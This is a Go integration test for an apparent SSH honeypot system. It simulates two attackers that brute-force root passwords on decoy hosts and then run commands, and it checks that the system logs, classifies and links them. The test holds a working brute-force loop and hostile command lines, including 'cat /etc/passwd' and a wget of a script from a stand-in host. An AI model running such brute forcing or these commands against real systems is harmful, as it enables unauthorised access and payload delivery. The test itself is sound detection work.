package app

import (
	"context"
	"errors"
	"fmt"
	"net"
	"slices"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/decnet/decnet/internal/fleet"
	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/store"
)

// wordlist is the password list both attackers try; "admin" is the demo
// deckies' root password, so the last guess gets in. None of the others is
// among the weak pairs a decky may accept (services.weakPairs).
var wordlist = []string{"qwerty", "letmein", "changeme", "dragon", "master", "sunshine", "P@ssw0rd", "monkey",
	"trustno1", "admin"}

// sshFrom dials addr from the loopback address src, so each simulated
// attacker has its own source IP.
func sshFrom(t *testing.T, src, addr string, cfg *gossh.ClientConfig) (*gossh.Client, error) {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 10 * time.Second}
	conn, err := d.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial %s from %s: %v", addr, src, err)
	}
	c, chans, reqs, err := gossh.NewClientConn(conn, addr, cfg)
	if err != nil {
		conn.Close()
		return nil, err
	}
	return gossh.NewClient(c, chans, reqs), nil
}

// bruteForce tries the wordlist against root on addr at a steady cadence,
// like hydra with one task: a few guesses per connection (the decky, like
// OpenSSH, drops a connection after six failures), then a new connection.
// It returns the client that got in.
func bruteForce(t *testing.T, src, addr string) *gossh.Client {
	t.Helper()
	const perConn, cadence = 5, 150 * time.Millisecond
	next := 0
	for next < len(wordlist) {
		time.Sleep(cadence)
		tried := 0
		cfg := &gossh.ClientConfig{
			User:            "root",
			HostKeyCallback: gossh.InsecureIgnoreHostKey(),
			Timeout:         10 * time.Second,
			Auth: []gossh.AuthMethod{gossh.RetryableAuthMethod(gossh.PasswordCallback(func() (string, error) {
				time.Sleep(cadence)
				if tried == perConn || next == len(wordlist) {
					return "", errors.New("next connection")
				}
				tried++
				next++
				return wordlist[next-1], nil
			}), perConn+1)},
		}
		if c, err := sshFrom(t, src, addr, cfg); err == nil {
			return c
		}
	}
	t.Fatalf("brute force of %s from %s: the wordlist did not get in", addr, src)
	return nil
}

// run executes one command in a new session.
func run(t *testing.T, c *gossh.Client, cmd string) {
	t.Helper()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if out, err := s.CombinedOutput(cmd); err != nil && !errors.As(err, new(*gossh.ExitError)) {
		t.Fatalf("%s: %v\n%s", cmd, err, out)
	}
}

func TestTwoAttackersBruteForceTwoDeckiesIntoRowsReuseTraversalAndOneIdentity(t *testing.T) {
	a, deckies := startDemo(t, "127.79.6.0/24")
	targets := []fleet.Status{deckies["linux-server-01"], deckies["devops-host-01"]}
	for _, d := range targets {
		if d.IP == "" {
			t.Fatalf("demo fleet lacks an SSH decky: %+v", deckies)
		}
	}
	const bruter, operator = "127.80.6.11", "127.80.6.12"

	// The brute-forcer walks the wordlist on both deckies and stops once in.
	for _, d := range targets {
		c := bruteForce(t, bruter, net.JoinHostPort(d.IP, "22"))
		time.Sleep(150 * time.Millisecond)
		c.Close()
	}
	// The operator does the same, then works each box by hand: short
	// bursts of commands between pauses to read the output.
	for _, d := range targets {
		c := bruteForce(t, operator, net.JoinHostPort(d.IP, "22"))
		for _, step := range []struct {
			cmd   string
			pause time.Duration
		}{{"id", 0}, {"uname -a", 50 * time.Millisecond}, {"cat /etc/passwd", 1500 * time.Millisecond},
			{"ps aux", 50 * time.Millisecond}, {"wget http://203.0.113.200/x.sh", 2 * time.Second}} {
			time.Sleep(step.pause)
			run(t, c, step.cmd)
		}
		c.Close()
	}

	ctx := context.Background()
	s := a.Store()
	rows := map[string]model.Attacker{}
	for _, ip := range []string{bruter, operator} {
		rows[ip] = waitAttackerSettled(t, s, ip)
	}
	for ip, row := range rows {
		logs, err := s.ListLogs(ctx, store.LogQuery{AttackerIP: ip, Limit: 10_000})
		if err != nil {
			t.Fatal(err)
		}
		creds, _, err := s.ListCredentials(ctx, store.CredentialQuery{AttackerIP: ip, Limit: 1000})
		if err != nil {
			t.Fatal(err)
		}
		if row.EventCount != int64(len(logs)) || row.CredentialCount != int64(len(creds)) || len(creds) == 0 {
			t.Errorf("%s: event_count %d, credential_count %d; the store holds %d events and %d credentials",
				ip, row.EventCount, row.CredentialCount, len(logs), len(creds))
		}
		if !row.IsTraversal || row.DeckyCount != 2 || row.ServiceCount != 1 {
			t.Errorf("%s: traversal %v over %d deckies (%s), %d services; want a 2-decky ssh traversal",
				ip, row.IsTraversal, row.DeckyCount, row.TraversalPath, row.ServiceCount)
		}
		if !slices.ContainsFunc(row.Fingerprints, func(f model.Fingerprint) bool { return f.Type == "hassh" }) {
			t.Errorf("%s: no client HASSH among %+v", ip, row.Fingerprints)
		}
	}
	classes, timing := map[string]string{}, map[string]string{}
	for ip, row := range rows {
		b, err := s.GetAttackerBehavior(ctx, row.UUID)
		if err != nil {
			t.Fatal(err)
		}
		classes[ip], timing[ip] = b.BehaviorClass, string(b.TimingStats)
		// Login attempts alone are not interaction (pipeline.md §3.7):
		// the brute-forcer only scanned ssh; the operator ran commands.
		interacted, scanned := []string{}, []string{"ssh"}
		if ip == operator {
			interacted, scanned = scanned, interacted
		}
		if !slices.Equal(b.InteractedServices, interacted) || !slices.Equal(b.ScannedServices, scanned) {
			t.Errorf("%s: interacted %v, scanned %v; want %v and %v", ip, b.InteractedServices, b.ScannedServices,
				interacted, scanned)
		}
	}
	if classes[bruter] != "brute_force" || classes[operator] != "interactive" {
		t.Errorf("behaviour classes = %v (timing %v); want the brute-forcer brute_force and the operator interactive",
			classes, timing)
	}
	if n := len(rows[operator].Commands); n != 10 {
		t.Errorf("operator commands = %d, want 10 (5 on each decky)", n)
	}

	// The shared wordlist is credential reuse across both deckies.
	reuse := waitReuse(t, s)
	if reuse.TargetCount != 2 || !slices.Equal(reuse.AttackerIPs, []string{bruter, operator}) {
		t.Errorf("reuse finding = %+v; want both attackers on 2 targets", reuse)
	}

	// The brute force is tagged from the credential aggregates the TTP
	// worker builds on attacker.scored (the original never fed R0001/R0002).
	checkFor(t, 30*time.Second, func() error {
		rows, err := s.ListTechniquesByAttacker(ctx, rows[bruter].UUID)
		if err != nil {
			return err
		}
		for _, r := range rows {
			if r.TechniqueID == "T1110" {
				return nil
			}
		}
		return fmt.Errorf("no T1110 tag for the brute-forcer: %+v", rows)
	})

	// One client fingerprint (the same SSH library): one identity.
	id := waitIdentity(t, s, rows[bruter].UUID, rows[operator].UUID)
	if id.ObservationCount != 2 || len(id.HASSHHashes) != 1 {
		t.Errorf("identity = %+v; want 2 observations sharing one HASSH", id)
	}
}

// waitAttackerSettled waits until ip's row exists and its counts stopped
// moving for a second: the last events have been folded and the ingester's
// rows counted.
func waitAttackerSettled(t *testing.T, s interface {
	GetAttackerUUIDByIP(context.Context, string) (string, error)
	GetAttackerByUUID(context.Context, string) (model.Attacker, error)
}, ip string) model.Attacker {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	var last model.Attacker
	stableSince := time.Now()
	for time.Now().Before(deadline) {
		time.Sleep(100 * time.Millisecond)
		id, err := s.GetAttackerUUIDByIP(context.Background(), ip)
		if err != nil {
			continue
		}
		a, err := s.GetAttackerByUUID(context.Background(), id)
		if err != nil {
			t.Fatal(err)
		}
		if a.EventCount != last.EventCount || a.CredentialCount != last.CredentialCount || a.BountyCount != last.BountyCount {
			last, stableSince = a, time.Now()
			continue
		}
		if time.Since(stableSince) > 1500*time.Millisecond {
			return a
		}
	}
	t.Fatalf("attacker %s never settled; last row %+v", ip, last)
	return last
}

func waitReuse(t *testing.T, s store.CredentialReuseRepository) model.CredentialReuse {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		rows, _, err := s.ListReuse(context.Background(), store.ReuseQuery{Limit: 10, MinTargetCount: 2})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			if r.SecretPrintable == "admin" && len(r.AttackerIPs) == 2 {
				return r
			}
		}
		time.Sleep(200 * time.Millisecond)
	}
	t.Fatal("no credential reuse finding for the shared password")
	return model.CredentialReuse{}
}

func waitIdentity(t *testing.T, s interface {
	GetAttackerByUUID(context.Context, string) (model.Attacker, error)
	GetIdentity(context.Context, string) (model.Identity, error)
}, uuids ...string) model.Identity {
	t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) {
		var ids []string
		for _, u := range uuids {
			a, err := s.GetAttackerByUUID(context.Background(), u)
			if err != nil {
				t.Fatal(err)
			}
			ids = append(ids, a.IdentityID)
		}
		if ids[0] != "" && !slices.Contains(ids, "") {
			id, err := s.GetIdentity(context.Background(), ids[0])
			if err != nil {
				t.Fatal(err)
			}
			other, err := s.GetIdentity(context.Background(), ids[1])
			if err != nil {
				t.Fatal(err)
			}
			if id.UUID == other.UUID {
				return id
			}
		}
		time.Sleep(200 * time.Millisecond)
	}
	t.Fatal("the two attackers never joined one identity")
	return model.Identity{}
}
